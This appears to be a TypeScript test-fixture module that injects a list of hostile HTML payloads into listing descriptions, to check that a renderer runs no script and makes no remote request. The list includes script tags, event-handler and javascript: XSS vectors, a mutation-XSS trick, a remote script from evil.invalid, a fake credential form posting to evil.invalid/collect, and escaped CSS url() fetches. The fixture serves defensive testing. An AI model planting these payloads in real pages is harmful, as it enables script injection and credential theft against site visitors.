// Edge-case listings whose desc is hostile HTML: scripts, handlers, remote loads. Every remote host is under .invalid.
import type { DataLang } from './prng';
import { companyBase, productBase } from './edge-basic';

// Each attack sets the same sentinel, so a test can tell whether anything ran: window.__pwned.
const HOSTILE_HTML = [
  '<base href="https://evil.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/redirect">',
  '<link rel="stylesheet" href="https://tracker.invalid/style.css">',
  '<style>@import url("https://tracker.invalid/import.css");',
  '@font-face{font-family:x;src:url("https://tracker.invalid/font.woff2")}',
  '.hostile-bg{background:url("https://tracker.invalid/bg.png")}</style>',
  '<script>window.__pwned=1;alert("pwned: inline script")</script>',
  '<script src="https://evil.invalid/payload.js"></script>',
  '<p class="hostile-bg" style="background:url(\'https://tracker.invalid/inline-bg.png\')">Background loaded from a remote URL.</p>',
  '<img src="https://tracker.invalid/pixel.gif" width="1" height="1" style="display:none" alt="">',
  '<img src="x" onerror="window.__pwned=1;alert(\'pwned: onerror\')" alt="broken">',
  '<img src="https://img.invalid/a.jpg" srcset="https://tracker.invalid/a-2x.jpg 2x, https://tracker.invalid/a-3x.jpg 3x" alt="srcset">',
  '<body onload="window.__pwned=1">',
  '<div onmouseover="window.__pwned=1;alert(\'pwned: hover\')">Hover over me.</div>',
  '<a href="javascript:window.__pwned=1;alert(\'pwned: link\')">Click for a discount</a>',
  '<a href="https://evil.invalid/phish" target="_top">Open the supplier page</a>',
  '<iframe src="https://evil.invalid/frame.html" width="200" height="80"></iframe>',
  '<iframe src="javascript:parent.__pwned=1"></iframe>',
  '<object data="https://evil.invalid/movie.swf" type="application/x-shockwave-flash"></object>',
  '<embed src="https://evil.invalid/embed.swf">',
  '<form action="https://evil.invalid/collect" method="post"><input name="user" placeholder="Account"><input type="password" name="pass" placeholder="Password"><button type="submit">Log in to see prices</button></form>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1;alert(\'pwned: svg\')"><image href="https://tracker.invalid/svg-image.png" width="10" height="10"/></svg>',
  '<video src="https://tracker.invalid/v.mp4" poster="https://tracker.invalid/poster.jpg" autoplay></video>',
  '<audio src="https://tracker.invalid/a.mp3" autoplay></audio>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1"></style></mglyph></table></mtext></math>',
  // References that fetch documents, not images, once remote images are allowed (SVG resources and CSS url()).
  '<svg width="40" height="20"><rect width="20" height="20" clip-path="url(https://tracker.invalid/clip.svg#c)"/>',
  '<rect x="20" width="20" height="20" fill="url(https://tracker.invalid/paint.svg#g) red" stroke="url(https://tracker.invalid/stroke.svg#s)"/>',
  '<path d="M0 0L9 9" marker-start="url(https://tracker.invalid/marker.svg#m)" marker-end="url(https://tracker.invalid/marker-end.svg#m)"/>',
  '<g mask="url(https://tracker.invalid/mask.svg#m)" filter="url(https://tracker.invalid/filter.svg#f)"><circle r="3"/></g>',
  '<linearGradient id="lg" href="https://tracker.invalid/gradient.svg#g"/><use href="https://tracker.invalid/use.svg#u"/>',
  '<rect width="5" height="5" style="clip-path:url(https://tracker.invalid/style-clip.svg#c)"/><rect y="5" width="5" height="5" fill="url(#lg)"/>',
  '<style>rect{mask:url(https://tracker.invalid/svg-style-mask.svg#m)}</style></svg>',
  '<p style="clip-path:u\\72 l(https://tracker.invalid/escaped-clip.svg#c);cursor:url(https://tracker.invalid/cursor.svg),auto">Clipped text.</p>',
].join('\n');

const INTRO: Record<DataLang, string> = {
  cn: '<p>本描述包含恶意代码，用于测试安全渲染：任何脚本都不应执行，任何远程请求都不应发出。</p>',
  en: '<p>This description carries hostile markup to test safe rendering: no script may run and no remote request may leave the page.</p>',
  ru: '<p>Это описание содержит вредоносную разметку для проверки безопасного показа: ни один скрипт не должен выполниться, ни один внешний запрос не должен уйти.</p>',
};

export function hostileCompany(id: string, lang: DataLang): Record<string, unknown> {
  const base = companyBase(5, id, lang);
  return { ...base, desc: `${INTRO[lang]}\n${HOSTILE_HTML}\n${String(base.desc)}` };
}

export function hostileProduct(id: string, lang: DataLang): Record<string, unknown> {
  const base = productBase(5, id, lang);
  return { ...base, desc: `${INTRO[lang]}\n${HOSTILE_HTML}\n${String(base.desc)}` };
}
